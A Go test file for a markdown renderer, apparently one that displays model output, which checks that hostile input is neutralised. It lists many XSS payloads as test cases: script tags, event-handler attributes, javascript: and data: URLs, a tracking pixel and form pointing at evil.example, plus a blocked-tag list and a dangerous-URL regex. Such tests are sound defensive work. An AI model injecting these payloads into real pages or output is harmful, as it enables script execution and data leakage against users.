package markdown

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// element is one start tag found in rendered output.
type element struct {
	tag   string
	attrs []html.Attribute
}

// parse tokenises out the way a browser would, so the assertions are about
// elements and attributes, not about substrings that may be escaped text.
func parse(t *testing.T, out string) []element {
	t.Helper()
	var els []element
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return els
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			els = append(els, element{tag: tok.Data, attrs: tok.Attr})
		case html.CommentToken:
			t.Errorf("comment survived in %q", out)
		}
	}
}

var (
	forbiddenTags = map[string]bool{
		"script": true, "img": true, "iframe": true, "object": true, "embed": true, "style": true,
		"link": true, "meta": true, "base": true, "form": true, "input": true, "svg": true, "math": true,
		"video": true, "audio": true, "source": true, "frame": true, "frameset": true, "textarea": true,
		"button": true, "select": true, "template": true,
	}
	badURL = regexp.MustCompile(`(?i)^\s*(javascript|vbscript|data|file):`)
)

// assertSafe fails when out holds anything that could run script, load a
// resource, or style the page.
func assertSafe(t *testing.T, in, out string) {
	t.Helper()
	for _, el := range parse(t, out) {
		if forbiddenTags[el.tag] {
			t.Errorf("<%s> survived\n in: %q\nout: %q", el.tag, in, out)
		}
		for _, a := range el.attrs {
			name := strings.ToLower(a.Key)
			switch {
			case strings.HasPrefix(name, "on"):
				t.Errorf("event handler %s=%q on <%s> survived\n in: %q\nout: %q", a.Key, a.Val, el.tag, in, out)
			case name == "style" || name == "id" || name == "srcdoc" || name == "formaction":
				t.Errorf("attribute %s on <%s> survived: %q", a.Key, el.tag, out)
			case name == "href" || name == "src" || name == "action" || name == "xlink:href":
				if badURL.MatchString(a.Val) {
					t.Errorf("dangerous URL %s=%q survived\n in: %q\nout: %q", a.Key, a.Val, in, out)
				}
			}
		}
	}
}

func TestRenderNeutralisesHostileInput(t *testing.T) {
	cases := []string{
		`<script>window.__xss=2</script>`,
		"<script>\nalert(1)\n</script>\n",
		`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
		`<img src=x onerror="window.__xss=1">`,
		`text <img src=x onerror=alert(1)> inline`,
		"> quoted <img src=x onerror=\"window.__xss=1\"> and <script>window.__xss=2</script>\n",
		`<a href="javascript:alert(1)">x</a>`,
		`[click](javascript:alert(1))`,
		`[click](JaVaScRiPt:alert(1))`,
		`[click](  javascript:alert(1) )`,
		`[click](java&#x09;script:alert(1))`,
		`[click](vbscript:msgbox(1))`,
		`<javascript:alert(1)>`,
		`[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
		`![pixel](data:image/png;base64,iVBORw0KGgo=)`,
		`![x](javascript:alert(1))`,
		`![track](https://evil.example/p.gif?secret=1)`,
		"<div onclick=\"alert(1)\">\nraw block\n</div>\n",
		"<iframe src=\"https://evil.example\"></iframe>\n",
		"<style>body{display:none}</style>\n",
		"<svg onload=alert(1)>\n",
		`<details open ontoggle=alert(1)>`,
		"<!-- comment --><p>x</p>",
		`<form action="https://evil.example"><input name=a></form>`,
		`<span style="position:fixed">overlay</span>`,
		`<a id="messages" href="#">clobber</a>`,
		"```html\n<script>alert(1)</script>\n```\n",
		"```\" onmouseover=\"alert(1)\n code\n```\n",
		"~~~<script>\nx\n~~~\n",
		"`<img src=x onerror=alert(1)>`",
		"| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>x</script> |\n",
		"- [x] <input onfocus=alert(1) autofocus>\n",
		"[a]: javascript:alert(1)\n\n[link][a]",
		`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
		"www.example.com/<script>",
	}
	for _, in := range cases {
		out := Render(in)
		assertSafe(t, in, out)
		if strings.Contains(strings.ToLower(out), "<script") {
			t.Errorf("script tag in output for %q: %q", in, out)
		}
	}
}

// Raw HTML is shown as text: a user who asks about HTML must see it.
func TestRawHTMLIsShownAsText(t *testing.T) {
	out := Render("Try <b>HTML</b> and <script>window.__xss=2</script>")
	for _, want := range []string{"&lt;b&gt;HTML&lt;/b&gt;", "&lt;script&gt;window.__xss=2&lt;/script&gt;"} {
		if !strings.Contains(out, want) {
			t.Errorf("want %q in %q", want, out)
		}
	}
	block := Render("<div onclick=\"x()\">\nhello\n</div>\n")
	if !strings.Contains(block, "&lt;div onclick=") || !strings.Contains(block, "hello") {
		t.Errorf("raw block not shown as text: %q", block)
	}
}

func TestCodeBlockIsHighlightedWithClasses(t *testing.T) {
	out := Render("```go\npackage main\n\nfunc main() { println(\"<hi>\") }\n```\n")
	if !strings.Contains(out, `<pre class="chroma"><code class="language-go">`) {
		t.Fatalf("no highlighted block: %q", out)
	}
	for _, want := range []string{`<span class="kn">package</span>`, `<span class="kd">func</span>`, `&lt;hi&gt;`} {
		if !strings.Contains(out, want) {
			t.Errorf("want %q in %q", want, out)
		}
	}
	if strings.Contains(out, "style=") {
		t.Errorf("inline style in %q", out)
	}
	assertSafe(t, "go block", out)
}

func TestUnknownOrHugeCodeIsPlainText(t *testing.T) {
	out := Render("```nosuchlang\n<b>x</b>\n```\n")
	if !strings.Contains(out, `<code class="language-nosuchlang">&lt;b&gt;x&lt;/b&gt;`) || strings.Contains(out, "<span") {
		t.Errorf("unknown language: %q", out)
	}
	big := "```go\n" + strings.Repeat("x := 1\n", maxHighlight/6) + "```\n"
	if out := Render(big); strings.Contains(out, "<span") {
		t.Errorf("huge block was highlighted")
	}
}

func TestMarkdownFeatures(t *testing.T) {
	out := Render("# Title\n\n**bold** _em_ ~~gone~~\n\n> quote\n\n1. one\n2. two\n\n| n | name |\n|--:|:--|\n| 1 | `x` |\n\n- [x] done\n- [ ] todo\n\n[site](https://example.com) and ![logo](https://example.com/l.png)\n")
	for _, want := range []string{
		"<h1>Title</h1>", "<strong>bold</strong>", "<em>em</em>", "<del>gone</del>", "<blockquote>",
		"<ol>", `<th align="right">n</th>`, `<td align="left">`, "<code>x</code>",
		`<span class="task-done">☑</span>`, `<span class="task-todo">☐</span>`,
		`<a href="https://example.com" rel="nofollow noopener" target="_blank">site</a>`,
		`<a href="https://example.com/l.png" rel="nofollow noopener" target="_blank">logo</a>`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("want %q in\n%s", want, out)
		}
	}
	assertSafe(t, "features", out)
}

// Classes other than the ones this package emits are stripped, so model
// output cannot take on the page's own styles (a fake banner, a hidden
// overlay).
func TestOnlyOwnClassesSurvive(t *testing.T) {
	p := newPolicy()
	out := p.Sanitize(`<span class="banner">a</span><span class="kd">b</span><code class="language-go">c</code><code class="x">d</code><pre class="chroma">e</pre><pre class="modal">f</pre>`)
	want := `<span>a</span><span class="kd">b</span><code class="language-go">c</code><code>d</code><pre class="chroma">e</pre><pre>f</pre>`
	if out != want {
		t.Errorf("got  %s\nwant %s", out, want)
	}
}

func TestEmptyAndRenderAll(t *testing.T) {
	if Render("   \n") != "" {
		t.Error("blank input should render to nothing")
	}
	got := RenderAll([]string{"*a*", ""})
	if len(got) != 2 || got[0] != "<p><em>a</em></p>\n" || got[1] != "" {
		t.Errorf("RenderAll: %q", got)
	}
}

func TestHighlightCSS(t *testing.T) {
	css := HighlightCSS()
	for _, want := range []string{".chroma .kd", "@media not all and (prefers-color-scheme: dark) {", "@media (prefers-color-scheme: dark) {"} {
		if !strings.Contains(css, want) {
			t.Errorf("want %q in stylesheet", want)
		}
	}
}

func BenchmarkRender(b *testing.B) {
	src := strings.Repeat("Some **text** with `code`.\n\n```go\nfunc main() { fmt.Println(\"hi\") }\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n", 20)
	for b.Loop() {
		Render(src)
	}
}
